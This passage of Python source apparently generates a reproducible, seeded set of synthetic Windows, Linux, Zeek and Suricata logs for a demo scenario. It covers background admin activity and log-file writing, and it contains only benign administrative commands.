        ses = self._ssh_session(when, "bastion", "ops", 1001, self.admin_ip,
                                self.rng.uniform(300, 1800))  # fmt: skip
        command = self.rng.choice(("/usr/bin/apt list --upgradable",
                                   "/usr/bin/journalctl -u ssh --since today",
                                   "/usr/bin/systemctl status fail2ban"))  # fmt: skip
        when = self._after(when, 30, 200)
        sudo = self._sudo(when, "bastion", "ops", 1001, command, ses=ses, cwd="/home/ops")
        args = command.split()
        self._audit_exec(when, "bastion", args, args[0], ppid=sudo, auid=1001, ses=ses,
                         cwd="/home/ops")  # fmt: skip

    def _apt(self, when: datetime, host: str, address: str) -> None:
        for message in (
            "Starting apt-daily.service - Daily apt download activities...",
            "apt-daily.service: Deactivated successfully.",
            "Finished apt-daily.service - Daily apt download activities.",
        ):
            self._syslog("syslog", when, host, "systemd[1]", message)
            when = self._after(when, 1, 20)
        mirror = (_domain_ip("archive.ubuntu.com"), 80)
        sizes = (3100, self.rng.randint(10**5, 10**6))
        self._conn(when, (address, self.rng.randint(32768, 60999)), mirror, "http", 4.2, sizes)

    def ansible_run(self, when: datetime) -> None:
        """An hourly ansible fact-gathering run on web01."""
        ses = self._ssh_session(when, "web01", "ansible", 1001, MGMT_IP, self.rng.uniform(8, 25))
        tmp = f"/home/ansible/.ansible/tmp/ansible-tmp-{_micros(when) // 1000}/AnsiballZ_setup.py"
        marker = "".join(self.rng.choices("abcdefghijklmnopqrstuvwxyz", k=32))
        command = f"/bin/sh -c echo BECOME-SUCCESS-{marker} ; /usr/bin/python3 {tmp}"
        when = self._after(when, 1, 3)
        sudo = self._sudo(when, "web01", "ansible", 1001, command, ses=ses, cwd="/home/ansible")
        self._audit_exec(
            when,
            "web01",
            ["/usr/bin/python3", tmp],
            "/usr/bin/python3.10",
            ppid=sudo,
            auid=1001,
            ses=ses,
            cwd="/home/ansible",
            tty="(none)",
        )

    # -- output ------------------------------------------------------------------------------
    def build(self) -> None:
        """Generate the background, then the story on top of it."""
        story = self.anchor()
        for host in self.hosts:
            self.workstation(host, story if host is self.victim else None)
        self.machine_noise(self.dc)
        self.admin_rdp()
        self.linux_noise()
        self.phishing(story)
        self.lateral(self._after(story, 95 * 60, 100 * 60))
        self.linux_intrusion(self._after(story, 150 * 60, 160 * 60))

    def write(self, folder: Path) -> list[Path]:
        """Sort each file's records by time and write them; return the paths."""
        paths = [
            self._write_windows(folder / "windows" / f"{key}.ndjson", key) for key in _CHANNELS
        ]
        for key, relative in (
            ("auth", "linux/auth.log"),
            ("syslog", "linux/syslog.log"),
            ("audit", "linux/audit.log"),
            ("eve", "network/eve.json"),
        ):
            paths.append(_write(folder / relative, self._sorted_lines(key)))
        for key in ("conn", "dns"):
            body = "".join(self._sorted_lines(key))
            footer = f"#close\t{self.end:%Y-%m-%d-%H-%M-%S}\n"
            paths.append(
                _write(
                    folder / "network" / f"{key}.log", [_zeek_header(key, self.start), body, footer]
                )
            )
        return paths

    def _sorted_lines(self, key: str) -> list[str]:
        return [line + "\n" for _when, _seq, line in sorted(self.text[key], key=_sort_key)]

    def _write_windows(self, path: Path, key: str) -> Path:
        """Winlogbeat documents, one a line; record ids count up per computer."""
        channel, provider, guid = _CHANNELS[key]
        record_ids: dict[str, int] = {}
        lines = []
        for when, _seq, host, event_id, data in sorted(self.win[key], key=_sort_key):
            record_id = record_ids.get(host.name) or self.rng.randrange(10_000, 900_000)
            record_ids[host.name] = record_id = record_id + 1
            pid = {"sysmon": host.sysmon_pid, "security": host.lsass_pid}.get(key, 680)
            winlog: dict[str, object] = {
                "api": "wineventlog", "channel": channel, "computer_name": host.fqdn,
                "event_id": str(event_id), "provider_name": provider, "provider_guid": guid,
                "record_id": record_id, "opcode": "Info",
                "task": _TASKS.get((key, event_id), "None"),
                "process": {"pid": pid, "thread": {"id": self.rng.randrange(1000, 12000, 4)}},
                "event_data": data,
            }  # fmt: skip
            event: dict[str, object] = {
                "code": str(event_id),
                "kind": "event",
                "provider": provider,
            }
            if key == "security":
                failed = event_id == 4625
                winlog["keywords"] = ["Audit Failure" if failed else "Audit Success"]
                event["outcome"] = "failure" if failed else "success"
            elif key == "sysmon":
                winlog["version"] = 5
                winlog["user"] = {"identifier": _SYSTEM.sid, "domain": _SYSTEM.domain,
                                  "name": _SYSTEM.name, "type": "User"}  # fmt: skip
            else:
                winlog["keywords"] = ["Classic"]
            document = {
                "@timestamp": _iso_ms(when),
                "agent": {"type": "winlogbeat", "version": "8.15.3", "name": host.name},
                "ecs": {"version": "8.0.0"}, "host": {"name": host.name},
                "log": {"level": "information"}, "event": event, "winlog": winlog,
            }  # fmt: skip
            lines.append(orjson.dumps(document).decode() + "\n")
        return _write(path, lines)


_ZEEK_FIELDS = {
    "conn": (
        ("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"),
        ("id.resp_h", "addr"), ("id.resp_p", "port"), ("proto", "enum"), ("service", "string"),
        ("duration", "interval"), ("orig_bytes", "count"), ("resp_bytes", "count"),
        ("conn_state", "string"), ("local_orig", "bool"), ("local_resp", "bool"),
        ("missed_bytes", "count"), ("history", "string"), ("orig_pkts", "count"),
        ("orig_ip_bytes", "count"), ("resp_pkts", "count"), ("resp_ip_bytes", "count"),
        ("tunnel_parents", "set[string]"),
    ),
    "dns": (
        ("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"),
        ("id.resp_h", "addr"), ("id.resp_p", "port"), ("proto", "enum"), ("trans_id", "count"),
        ("rtt", "interval"), ("query", "string"), ("qclass", "count"),
        ("qclass_name", "string"), ("qtype", "count"), ("qtype_name", "string"),
        ("rcode", "count"), ("rcode_name", "string"), ("AA", "bool"), ("TC", "bool"),
        ("RD", "bool"), ("RA", "bool"), ("Z", "count"), ("answers", "vector[string]"),
        ("TTLs", "vector[interval]"), ("rejected", "bool"),
    ),
}  # fmt: skip
"""The columns of the Zeek logs written, with their types, as Zeek writes them."""


def _zeek_header(path: str, opened: datetime) -> str:
    fields = _ZEEK_FIELDS[path]
    return (
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"
        f"#path\t{path}\n#open\t{opened:%Y-%m-%d-%H-%M-%S}\n"
        "#fields\t" + "\t".join(name for name, _ in fields) + "\n"
        "#types\t" + "\t".join(kind for _, kind in fields) + "\n"
    )


def _write(path: Path, parts: list[str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes("".join(parts).encode("utf-8"))
    return path


def write_scenario(
    folder: Path, *, end: datetime | None = None, seed: int = 7, background_hosts: int = 12
) -> list[Path]:
    """Write the demo scenario's log files under ``folder``; return the paths written.

    The files cover the 24 hours before ``end`` (default: now); a naive ``end`` is taken as
    UTC. The same ``seed`` and ``end`` always give the same bytes.

    Raises:
        ValueError: when ``background_hosts`` is not between 0 and 200.
    """
    if not 0 <= background_hosts <= 200:
        raise ValueError(f"background_hosts must be between 0 and 200, not {background_hosts!r}")
    if end is None:
        end = datetime.now(UTC)
    end = end.replace(tzinfo=UTC) if end.tzinfo is None else end.astimezone(UTC)
    scenario = _Scenario(end, seed, background_hosts)
    scenario.build()
    return scenario.write(Path(folder))
